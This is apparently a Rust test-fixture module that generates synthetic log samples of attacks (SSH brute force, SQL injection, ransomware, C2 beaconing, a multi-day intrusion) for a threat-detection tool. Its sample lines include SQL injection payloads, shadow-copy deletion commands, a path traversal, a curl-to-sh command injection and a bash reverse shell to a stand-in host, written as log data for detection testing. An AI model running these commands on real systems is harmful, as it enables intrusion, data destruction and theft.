//! Inputs that show one thing each, made anew and the same at every call: for tests, for trying out, and for
//! a page that wants to show something.

use std::fmt::Write as _;

use crate::event::Timestamp;
use crate::event::analysis::ThreatKind;

/// An input, and what must be found in it.
pub struct Sample {
    pub name: &'static str,
    /// One sentence.
    pub summary: &'static str,
    /// The kinds of its threats, in the order of [`ThreatKind`]; each from one actor.
    pub expected: &'static [ThreatKind],
    write: fn(&mut Log),
}

impl Sample {
    /// Its lines.
    pub fn text(&self) -> String {
        let mut log = Log { out: String::new(), millis: START_MILLIS, seed: 1 };
        (self.write)(&mut log);
        log.out
    }
}

/// The sample called `name`.
pub fn find(name: &str) -> Option<&'static Sample> {
    SAMPLES.iter().find(|sample| sample.name == name)
}

/// 2026-02-02 08:00 UTC, a Monday.
const START_MILLIS: i64 = 1_770_019_200_000;

/// All of them.
pub const SAMPLES: &[Sample] = &[
    Sample {
        name: "brute-force",
        summary: "Passwords of root are guessed over SSH, and in the end one is right.",
        expected: &[ThreatKind::AccountCompromise],
        write: brute_force,
    },
    Sample {
        name: "sql-injection",
        summary: "A shop's search is tried for SQL injection.",
        expected: &[ThreatKind::WebAttack],
        write: sql_injection,
    },
    Sample {
        name: "ransomware",
        summary: "Shadow copies are deleted, then files on a share are renamed by the hundred.",
        expected: &[ThreatKind::Ransomware],
        write: ransomware,
    },
    Sample {
        name: "insider",
        summary: "An employee who leaves takes customer records home by night.",
        expected: &[ThreatKind::InsiderThreat],
        write: insider,
    },
    Sample {
        name: "flood",
        summary: "One client asks a web server far faster than it can answer.",
        expected: &[ThreatKind::RequestFlood],
        write: flood,
    },
    Sample {
        name: "privilege-escalation",
        summary: "A web server's user becomes root.",
        expected: &[ThreatKind::PrivilegeEscalation],
        write: privilege_escalation,
    },
    Sample {
        name: "c2-beacon",
        summary: "A workstation calls the same strange port every minute.",
        expected: &[ThreatKind::CommandAndControl],
        write: beacon,
    },
    Sample {
        name: "phishing",
        summary: "A message from a look-alike domain, and somebody who believed it.",
        expected: &[ThreatKind::Phishing],
        write: phishing,
    },
    Sample {
        name: "mining",
        summary: "A miner runs from /tmp and speaks with its pool.",
        expected: &[ThreatKind::Cryptomining],
        write: mining,
    },
    Sample {
        name: "slow-intrusion",
        summary: "Over days: a scan, a way in through the web server, a backdoor, data that leaves.",
        expected: &[ThreatKind::WebAttack, ThreatKind::DataExfiltration, ThreatKind::Backdoor],
        write: slow_intrusion,
    },
    Sample {
        name: "clean",
        summary: "An ordinary working day, with all that looks like an attack and is none.",
        expected: &[],
        write: clean,
    },
];

/// A log that is being written.
struct Log {
    out: String,
    millis: i64,
    seed: u64,
}

impl Log {
    fn wait(&mut self, secs: i64) {
        self.millis += secs * 1000;
    }

    /// Somewhere below `below`, the same in each run.
    fn any(&mut self, below: u64) -> u64 {
        self.seed = self.seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.seed >> 33) % below.max(1)
    }

    fn app(&mut self, text: &str) {
        let time = Timestamp(self.millis).to_string();
        let _ = writeln!(self.out, "{} {text}", time[..19].replace('T', " "));
    }

    fn syslog(&mut self, host: &str, text: &str) {
        let _ = writeln!(self.out, "{} {host} {text}", Timestamp(self.millis));
    }

    fn web(&mut self, client: &str, request: &str, status: u16, agent: &str) {
        let time = Timestamp(self.millis).clf();
        let bytes = 300 + self.any(9000);
        let _ = writeln!(self.out, r#"{client} - - [{time}] "{request} HTTP/1.1" {status} {bytes} "-" "{agent}""#);
    }

    /// Visitors of a shop.
    fn visits(&mut self, pages: u64) {
        for page in 0..pages {
            let pause = 1 + self.any(20) as i64;
            self.wait(pause);
            let client = format!("198.51.100.{}", 10 + self.any(40));
            let path =
                ["/", "/shop/lamps", "/shop/desks?page=2", "/cart", "/static/app.js", "/contact"][(page % 6) as usize];
            self.web(&client, &format!("GET {path}"), 200, BROWSER);
        }
    }

    /// What servers say all day.
    fn routine(&mut self, host: &str, rounds: u64) {
        for round in 0..rounds {
            self.wait(240);
            let text = match round % 5 {
                0 => format!("CRON[{}]: (root) CMD (run-parts /etc/cron.hourly)", 4000 + round),
                1 => "systemd[1]: Started logrotate.service - Rotate log files.".to_owned(),
                2 => format!(
                    "sshd[{}]: Accepted publickey for deploy from 10.0.4.20 port {} ssh2: ED25519 SHA256:abc",
                    5000 + round,
                    40_000 + round
                ),
                3 => "backup[77]: snapshot of /srv finished, 1523 files encrypted with gpg and sent to the archive"
                    .to_owned(),
                _ => "ntpd[8]: synchronized to 10.0.0.1, stratum 2".to_owned(),
            };
            self.syslog(host, &text);
        }
    }
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0";

fn brute_force(log: &mut Log) {
    log.routine("gate", 10);
    for attempt in 0..40 {
        log.wait(3);
        log.syslog(
            "gate",
            &format!(
                "sshd[{}]: Failed password for root from 203.0.113.45 port {} ssh2",
                900 + attempt,
                40_000 + attempt
            ),
        );
    }
    log.wait(3);
    log.syslog("gate", "sshd[941]: Accepted password for root from 203.0.113.45 port 40041 ssh2");
    log.routine("gate", 5);
}

fn sql_injection(log: &mut Log) {
    log.visits(60);
    for (at, value) in [
        "1%27",
        "1%27%20OR%20%271%27=%271",
        "1%27+UNION+SELECT+user,password+FROM+users--",
        "1;DROP+TABLE+orders--",
        "1%27+AND+SLEEP(5)--",
    ]
    .iter()
    .enumerate()
    {
        log.wait(2);
        let status = if at % 2 == 0 { 500 } else { 403 };
        log.web("203.0.113.66", &format!("GET /shop/search?id={value}"), status, "sqlmap/1.8");
    }
    log.visits(30);
}

fn ransomware(log: &mut Log) {
    log.routine("files1", 10);
    log.wait(20);
    log.syslog(
        "files1",
        "sysmon[7]: Process Create: Image=vssadmin.exe CommandLine=\"vssadmin delete shadows /all /quiet\" User=SVC01",
    );
    log.wait(2);
    log.syslog("files1", "sysmon[7]: Process Create: Image=bcdedit.exe CommandLine=\"bcdedit /set {default} recoveryenabled no\" User=SVC01");
    for file in 0..60 {
        log.wait(1);
        log.syslog(
            "files1",
            &format!(
                "smbd_audit[88]: rename|ok|/share/projects/plan{file}.docx|/share/projects/plan{file}.docx.lockbit"
            ),
        );
    }
    log.wait(1);
    log.syslog("files1", "smbd_audit[88]: create|ok|/share/projects/HOW_TO_DECRYPT_FILES.txt");
}

fn insider(log: &mut Log) {
    for hour in 0..8 {
        log.wait(3600);
        log.app(&format!("INFO crm: user=j.doe opened customer {}", 100 + hour));
    }
    log.wait(6 * 3600);
    log.app("INFO hr: user=j.doe resignation received, last working day 2026-02-27");
    log.wait(1800);
    log.app("WARN crm: user=j.doe exported 48,210 customer records outside business hours");
    log.wait(300);
    log.app("WARN endpoint: user=j.doe copied customer_list.xlsx to removable media E:");
    log.wait(300);
    log.app("WARN mailgw: user=j.doe forwarded pricing.xlsx to personal gmail account");
}

fn flood(log: &mut Log) {
    log.visits(40);
    for request in 0..6000u64 {
        if request % 120 == 0 {
            log.wait(1);
        }
        log.web("203.0.113.99", "GET /shop/search?q=desk", if request > 600 { 503 } else { 200 }, BROWSER);
    }
    log.visits(20);
}

fn privilege_escalation(log: &mut Log) {
    log.routine("web1", 10);
    log.syslog(
        "web1",
        "sudo[812]: www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash",
    );
    log.wait(30);
    log.syslog("web1", "audit[812]: type=EXECVE msg=audit(1770020000.1:7): argc=3 a0=\"chmod\" a1=\"u+s\" a2=\"/bin/bash\" user=www-data");
    log.wait(10);
    log.syslog("web1", "usermod[830]: add 'www-data' to group 'sudo'");
    log.routine("web1", 5);
}

fn beacon(log: &mut Log) {
    log.routine("gate", 6);
    for call in 0..45 {
        log.wait(60);
        let port = 50_000 + call;
        log.syslog("gate", &format!("kernel: FW-ACCEPT IN=eth1 OUT=eth0 SRC=10.0.7.31 DST=198.51.100.77 LEN=60 TTL=63 PROTO=TCP SPT={port} DPT=8089 SYN"));
        if call % 7 == 3 {
            log.syslog("gate", &format!("kernel: FW-ACCEPT IN=eth1 OUT=eth0 SRC=10.0.7.40 DST=203.0.113.80 LEN=60 TTL=63 PROTO=TCP SPT={port} DPT=443 SYN"));
        }
    }
}

fn phishing(log: &mut Log) {
    log.routine("mail1", 6);
    log.app("WARN mailgw: message from accounts@examp1e.org to user=m.lee spf=fail dkim=fail dmarc=fail, look-alike domain of example.org");
    log.wait(400);
    log.app("WARN proxy: user=m.lee clicked suspicious link http://examp1e.org/login in e-mail");
    log.wait(40);
    log.app("ALERT proxy: user=m.lee credentials submitted to look-alike site examp1e.org");
}

fn mining(log: &mut Log) {
    log.routine("build3", 8);
    log.syslog("build3", "audit[33]: type=EXECVE msg=audit(1770020000.1:9): argc=4 a0=\"/tmp/.x/xmrig\" a1=\"-o\" a2=\"stratum+tcp://pool.example:3333\" a3=\"--donate-level=1\"");
    log.wait(60);
    log.syslog("build3", "monitor[5]: sustained cpu usage of 99% by process /tmp/.x/xmrig for 300 s");
    log.wait(60);
    log.syslog("build3", "xmrig[990]: speed 10s/60s/15m 1820.4 1811.2 n/a H/s, share accepted (12/0) diff 120001");
}

fn slow_intrusion(log: &mut Log) {
    const DAY: i64 = 86_400;
    log.visits(20);
    for path in ["/.env", "/.git/config", "/wp-config.php.bak", "/phpmyadmin/", "/server-status"] {
        log.wait(900);
        log.web("203.0.113.140", &format!("GET {path}"), 404, BROWSER);
    }
    log.wait(DAY / 2);
    log.visits(20);
    log.web("203.0.113.140", "GET /shop/image.php?file=../../../../etc/passwd", 200, BROWSER);
    log.wait(40);
    log.web("203.0.113.140", "POST /shop/image.php?cmd=%3Bcurl+http://203.0.113.140/x.sh%7Csh", 200, BROWSER);
    log.wait(DAY / 2);
    log.routine("web1", 5);
    log.syslog("web1", "sysmon[7]: file created /var/www/html/uploads/thumb.php by www-data");
    log.wait(60);
    log.syslog("web1", "audit[9]: EXECVE a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/203.0.113.140/4444 0>&1\"");
    log.wait(DAY);
    log.routine("web1", 5);
    log.syslog(
        "web1",
        "proxy[3]: possible data exfiltration detected: 4.2 GB uploaded by user=www-data to https://transfer.sh/abc",
    );
}

fn clean(log: &mut Log) {
    log.visits(60);
    log.routine("web1", 20);
    for text in [
        "clamd[3]: SelfCheck: Database status OK.",
        "clamscan[4]: Scanned files: 18230 Infected files: 0",
        "freshclam[5]: daily.cvd updated (version 27212, sigs: 2066523)",
        "rkhunter[6]: System checks summary: Possible rootkits: 0",
        "fail2ban.actions[9]: NOTICE [sshd] Unban 203.0.113.5",
        "kernel: Out of memory: Killed process 812 (java) total-vm:8123456kB, anon-rss:4012345kB",
        "dockerd[10]: pulled image registry.example.org/apps/miner-stats:1.2, 12 layers",
        "apt[11]: Installed: apt-transport-https:amd64 (2.6.1)",
        "sshd[12]: Failed password for alice from 10.0.4.21 port 41000 ssh2",
        "sshd[12]: Accepted password for alice from 10.0.4.21 port 41002 ssh2",
        "sudo[13]: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update",
        "restic[14]: snapshot 40dc1520 saved, 18230 files, 42.1 GiB uploaded to s3:backup.example.org",
        "openvpn[15]: alice/198.51.100.30:1194 peer info: IV_CIPHERS=AES-256-GCM encryption active",
        "trainer[16]: newsletter \"How to spot phishing attacks\" sent to 220 employees",
        "ids[17]: rule set loaded, 38211 signatures for malware, c2 and exploits enabled",
    ] {
        log.wait(180);
        log.syslog("web1", text);
    }
    log.visits(20);
}
